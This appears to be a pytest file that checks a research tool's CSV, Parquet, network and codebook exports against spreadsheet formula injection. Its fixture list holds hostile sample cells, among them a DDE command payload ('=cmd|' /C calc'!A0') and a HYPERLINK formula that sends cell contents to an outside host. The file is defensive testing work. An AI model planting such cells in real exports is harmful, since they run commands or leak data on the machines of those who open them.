"""Cells that a spreadsheet would run are text in every CSV file, and come back as they were."""

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from retold.consistency.agreement.network import write_network
from retold.shielding import shield_formula, shield_texts, unshield_formula, unshield_texts
from retold.study.differences import read_printed
from retold.tables import LIST, SCHEMAS, empty_table, read_table, write_rows, write_table
from retold.themes.codebook.formats import write_codebook
from retold.themes.codebook.read import read_codebook

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.org/"&A1)', "＝1+1",
    "＠SUM", "'=1", "''@x", "-", "=",
)  # fmt: skip
PLAIN = ("", "It rained.", "'tis", "a=b", " =1", "1-2", "“=1”", "''")
SIGNS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_shielded_and_comes_back(text):
    assert not shield_formula(text).startswith(SIGNS)
    assert unshield_formula(shield_formula(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays(text):
    assert shield_formula(text) == text == unshield_formula(text)


@given(st.text("'=+-@\t\r\nab1", max_size=6))
def test_what_is_read_is_what_was_written(text):
    assert unshield_formula(shield_formula(text)) == text
    assert not shield_formula(text).startswith(SIGNS)


def test_frames_keep_their_types_numbers_and_lists():
    frame = pd.DataFrame(
        {"=n": [-1, 2], "-x": [-0.5, 1.0], "text": pd.Series(["=1", "b"], dtype="str"), "ids": [("-a",), ()]}
    )
    shielded = shield_texts(frame)
    assert list(shielded.columns) == ["'=n", "'-x", "text", "ids"]
    assert shielded["text"].tolist() == ["'=1", "b"]
    pd.testing.assert_frame_equal(unshield_texts(shielded), frame)
    assert frame["text"].tolist() == ["=1", "b"]


def cells_of(path):
    """Return the cells of a CSV file that are no numbers, as a spreadsheet would take them in."""
    with path.open(encoding="utf-8-sig", newline="") as stream:
        for row in csv.reader(stream):
            yield from (cell for cell in row if not _is_number(cell))


def _is_number(cell):
    try:
        return bool(float(cell)) or True
    except ValueError:
        return False


def hostile(name):
    """Return a table in which every cell of text is a formula, and each list holds some."""
    table = empty_table(name)
    for column, kind in SCHEMAS[name].types.items():
        table[column] = {"s": list(FORMULAS), LIST: [(text,) for text in FORMULAS]}.get(
            kind, [0] * len(FORMULAS)
        )
    return table


@pytest.mark.parametrize("name", sorted(SCHEMAS))
def test_no_table_holds_a_cell_that_is_run_and_all_are_read_back(tmp_path, name):
    table = hostile(name).assign(**{"=extra": FORMULAS[0]})
    path = write_table(table, name, tmp_path)
    assert [cell for cell in cells_of(path) if cell.startswith(SIGNS)] == []
    back = read_table(name, tmp_path)
    assert "=extra" in back.columns
    for column, kind in SCHEMAS[name].types.items():
        if kind == "s":
            assert sorted(back[column]) == sorted(FORMULAS)


def test_a_parquet_table_is_compared_as_the_csv_that_it_would_be(tmp_path):
    table = hostile("masked")
    as_csv = read_printed(write_table(table, "masked", tmp_path))
    as_parquet = read_printed(write_table(table, "masked", tmp_path, table_format="parquet"))
    pd.testing.assert_frame_equal(as_csv[0], as_parquet[0])
    assert as_csv[1]


def test_no_network_holds_one(tmp_path):
    tables = {
        "statements": pd.DataFrame({"statement_id": ["-a:1"], "article_id": "-a", "voice": "subject", "speaker": "=Lee", "text": "=1"}),
        "arguments": pd.DataFrame({"statement_id": ["-a:1"], "argument": "k1"}),
        "articles": pd.DataFrame({"article_id": ["-a"], "outlet": "@Post", "date": "", "title": "+T", "label": "=L"}),
        "argument_labels": pd.DataFrame({"argument": ["k1"], "label": "=cmd"}),
        "coverage": pd.DataFrame({"article_id": ["-a"], "argument": "k1", "state": "reported", "statements": 1}),
    }  # fmt: skip
    for name, path in write_network(tables, tmp_path).items():
        if path.suffix == ".csv":
            assert [cell for cell in cells_of(path) if cell.startswith(SIGNS)] == [], name


def test_no_export_to_taguette_holds_one_and_it_is_read_back(tmp_path):
    book = read_codebook(
        {
            "themes": {
                "=cmd": {"description": "-x", "patterns": ["rain"]},
                "@b": {"description": "=1", "by_hand": True},
            }
        }
    )
    path = tmp_path / "book.csv"
    write_codebook(book, path)
    assert [cell for cell in cells_of(path) if cell.startswith(SIGNS)] == []
    back = read_codebook(path)
    assert [(theme.name, theme.description) for theme in back.themes] == [("=cmd", "-x"), ("@b", "=1")]


def test_rows_are_quoted_so_that_no_break_begins_a_cell():
    stream = io.StringIO(newline="")
    write_rows(shield_texts(pd.DataFrame({"a": ["\r=1"]})), stream)
    assert next(csv.reader(io.StringIO(stream.getvalue().split("\n", 1)[1], newline=""))) == ["'\r=1"]
